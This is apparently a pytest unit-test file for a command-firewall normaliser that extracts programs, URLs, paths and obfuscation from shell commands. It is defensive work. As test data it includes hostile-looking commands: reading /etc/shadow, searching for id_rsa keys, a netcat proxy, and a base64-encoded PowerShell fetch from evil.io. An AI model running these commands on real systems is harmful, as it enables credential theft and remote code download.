"""gateway/firewall/normalize/commands.py: what one command runs, fetches or hands on."""

from __future__ import annotations

import base64

import pytest

from tests.unit.firewall.shells import programs, shell


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("find . -name '*.log' -exec rm {} \\;", ["find", "rm"]),
        ("find . -type f -execdir sh -c 'shred \"$1\"' _ {} +", ["find", "sh", "shred"]),
        ("watch -n 5 'curl -s http://a.io | tail -1'", ["watch", "curl", "tail"]),
        ("watch -x aws s3 ls", ["watch", "aws"]),
        ("flock /tmp/lock -c 'aws s3 ls'", ["flock", "aws"]),
        ("flock -w 5 /tmp/lock aws s3 ls", ["flock", "aws"]),
        ("su -c 'id' root", ["su", "id"]),
        ("su - bob -c 'id'", ["su", "id"]),
        ("runuser -u bob -- id", ["runuser"]),
        ("script -qc 'id' /dev/null", ["script", "id"]),
        ("trap 'rm -f /tmp/x' EXIT", ["trap", "rm"]),
        ("ssh -i key.pem -p 2222 user@host 'curl http://a.io'", ["ssh", "curl"]),
        ("ssh -- host uname -a", ["ssh", "uname"]),
        ("ssh -o ProxyCommand='nc %h %p' host", ["ssh", "nc"]),
        ("busybox sh -c id", ["busybox", "sh", "id"]),
        ("ssh host <<EOF\nrm -rf /tmp/x\nEOF", ["ssh", "rm"]),
        ("kubectl exec -it pod -- sh -c 'curl http://a.io'", ["kubectl", "sh", "curl"]),
        ("kubectl run x --image=alpine --rm -it -- id", ["kubectl", "id"]),
        ("docker exec -u root -e A=1 ctr cat /etc/shadow", ["docker", "cat"]),
        ("podman exec --workdir=/x ctr id", ["podman", "id"]),
        ("kubectl get pods", ["kubectl"]),
        ("docker run --rm alpine id", ["docker", "id"]),
        (
            "pwsh -NoProfile -Command 'Invoke-WebRequest -Uri https://a.io'",
            ["pwsh", "Invoke-WebRequest"],
        ),
    ],
)
def test_commands_run_by_other_commands(command: str, expected: list[str]) -> None:
    assert programs(command) == expected


def test_ssh_names_the_remote_host() -> None:
    facts = shell("ssh -i ~/.ssh/id_rsa root@10.0.0.5 id")
    assert [(u.scheme, u.host) for u in facts.urls] == [("ssh", "10.0.0.5")]
    assert ("~/.ssh/id_rsa", "read") in {(p.path, p.op) for p in facts.paths}


def test_powershell_encoded_command_is_decoded() -> None:
    payload = base64.b64encode("iwr -Uri https://evil.io/x".encode("utf-16-le")).decode()
    facts = shell(f"powershell -NoP -EncodedCommand {payload}")
    assert [u.host for u in facts.urls] == ["evil.io"]
    assert "base64_to_shell" in facts.obfuscation


@pytest.mark.parametrize(
    ("command", "imports", "calls"),
    [
        ("python3 -c 'import os; os.getcwd()'", ["os"], ["os.getcwd"]),
        ("python -Bc 'import sys'", ["sys"], []),
        ("python3.11 -m http.server 8000", ["http.server"], []),
        ("python -u -m pip install boto3", ["pip"], []),
        ("echo 'import socket' | python3", ["socket"], []),
    ],
)
def test_python_invocations_are_code(command: str, imports: list[str], calls: list[str]) -> None:
    code = shell(command).code
    assert code is not None
    assert (code.language, code.imports, code.calls) == ("python", imports, calls)


@pytest.mark.parametrize(
    ("command", "path", "op"),
    [
        ("python3 exploit.py --target x", "exploit.py", "exec"),
        ("bash ./install.sh", "install.sh", "exec"),
        ("sh /tmp/T1003.sh", "/tmp/T1003.sh", "exec"),
        ("source ~/.profile", "~/.profile", "exec"),
        (". ./env.sh", "env.sh", "exec"),
        ("./deploy.sh --prod", "deploy.sh", "exec"),
        ("/tmp/payload -x", "/tmp/payload", "exec"),
        ("find /tmp -name '*.tmp' -delete", "/tmp", "delete"),
        ("find / -name id_rsa -fprint found.txt", "found.txt", "write"),
    ],
)
def test_executed_and_searched_files(command: str, path: str, op: str) -> None:
    assert (path, op) in {(p.path, p.op) for p in shell(command).paths}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git clone https://github.com/org/repo.git", [("", "https", "github.com")]),
        ("pip install https://files.example.org/pkg.whl", [("", "https", "files.example.org")]),
        ("aws s3 cp model.bin s3://bucket/models/", [("", "s3", "bucket")]),
        (
            "hf upload org/model . --repo-url=https://huggingface.co/org/model",
            [("", "https", "huggingface.co")],
        ),
        ("git commit -m 'see https://example.com'", []),
        ("gh pr create --title x --body 'https://example.com'", []),
        ("echo https://example.com", []),
        ("grep https://example.com access.log", []),
    ],
)
def test_urls_given_to_other_programs(command: str, expected: list[tuple[str, str, str]]) -> None:
    assert [(u.method, u.scheme, u.host) for u in shell(command).urls] == expected


def test_each_command_is_recorded_once() -> None:
    assert programs("ls; ls; ls -a") == ["ls", "ls"]
